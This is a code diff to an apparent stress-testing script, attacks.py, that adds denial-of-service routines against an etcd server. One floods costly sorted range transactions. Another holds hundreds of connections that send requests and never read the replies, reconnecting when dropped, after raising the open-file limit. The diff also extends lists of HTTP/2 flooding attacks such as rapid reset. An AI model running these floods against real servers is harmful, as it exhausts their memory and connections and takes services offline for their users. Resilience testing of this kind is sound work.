@@ -6,6 +6,7 @@ usage: attacks.py PB HOST:PORT SOURCE ATTACK   (on its own; plain)
 import ctypes
 import os
 import random
+import resource
 import select
 import socket
 import ssl
@@ -208,6 +209,12 @@ class Attack:
         self.calls("/etcdserverpb.KV/Txn", pb.TxnRequest(success=[
             pb.RequestOp(request_range=look), pb.RequestOp(request_put=pb.PutRequest(key=b"costly", value=b"x"))]).SerializeToString())
 
+    def costly_reads(self):
+        """Looks at as many keys as one may, and no write: as many as there may be at once, which one word of the majority lets go on."""
+        look = pb.RangeRequest(key=b"many/3", range_end=b"many/6", sort_target=pb.RangeRequest.VALUE, sort_order=pb.RangeRequest.DESCEND, limit=1)
+        body = pb.TxnRequest(success=[pb.RequestOp(request_range=look)]).SerializeToString()
+        self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.KV/Txn", body)), n=8)
+
     def hashes(self):
         """As many as there may be at once, of all keys: each takes many slices."""
         self.flood(None, self.streams(lambda i: call(i, b"/etcdserverpb.Maintenance/HashKV", b"")))
@@ -328,6 +335,39 @@ class Attack:
                 except grpc.RpcError:
                     self.refused += 1
 
+    def unread(self, path, body, n):
+        """@n connections that each ask once and read nothing. Who is ended comes again."""
+        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, n + 100)), hard))
+        poll, conns = select.poll(), {}
+
+        def fresh():
+            s = self.connect(receive=4096, hello=settings((4, 0x7fffffff)) + frame(WINDOW, 0, 0, b"\x7f\0\0\0"))
+            try:
+                s.sendall(call(1, path, body))
+            except OSError:
+                self.refused += 1
+            conns[s.fileno()] = s
+            poll.register(s, select.POLLRDHUP)
+
+        for _ in range(n):
+            fresh()
+        self.there()
+        while True:
+            for fd, _ in poll.poll():
+                poll.unregister(fd)
+                conns.pop(fd).close()
+                time.sleep(0.001)
+                fresh()
+
+    def unread_by_many(self):
+        body = pb.RangeRequest(key=b"big/", range_end=b"big0")
+        self.unread(b"/etcdserverpb.KV/Range", body.SerializeToString(), 450)
+
+    def unread_txns_of_many(self):
+        body = pb.TxnRequest(success=[pb.RequestOp(request_range=pb.RangeRequest(key=b"big/", range_end=b"big0"))])
+        self.unread(b"/etcdserverpb.KV/Txn", body.SerializeToString(), 450)
+
     # -- what costs connections --
 
     def idle(self):
@@ -400,10 +440,10 @@ class Attack:
 
 COST_LOOP = ["empty_data", "pings", "settings", "window_updates", "priorities", "unknown_frames", "frames_of_the_past", "settings_of_all_streams", "goodbyes",
              "tall_trees", "rapid_reset", "continuations", "header_references",
-             "small_calls", "renewals", "garbage", "deep_messages", "costly_txns", "hashes",
+             "small_calls", "renewals", "garbage", "deep_messages", "costly_txns", "costly_reads", "hashes",
              "lease_lists", "lock_crowds"]
 COST_MEMORY = ["unread_ranges", "zero_windows", "one_byte_windows", "large_answers_to_writes", "half_messages", "half_watches",
-               "refused_watches", "watches", "old_values"]
+               "refused_watches", "watches", "old_values", "unread_by_many", "unread_txns_of_many"]
 COST_CONNECTIONS = ["idle", "come_and_go", "slow_bytes"]
 COST_TLS = ["key_updates"]
 ALL = COST_LOOP + COST_MEMORY + COST_CONNECTIONS + ["logins"]
@@ -411,12 +451,12 @@ ALL = COST_LOOP + COST_MEMORY + COST_CONNECTIONS + ["logins"]
 MILD = [a for a in ALL if a not in ("costly_txns", "large_answers_to_writes", "watches", "old_values", "lease_lists", "lock_crowds", "logins")]
 
 
-def attack(name, *where, there=None):
+def attack(name, *where, there=None, args=()):
     """For ever."""
     os.nice(10)  # an attacker has a machine of its own; here it takes what the replicas leave
     a = Attack(*where)
     a.there = there or a.there
-    getattr(a, name)()
+    getattr(a, name)(*args)
 
 
 if __name__ == "__main__":
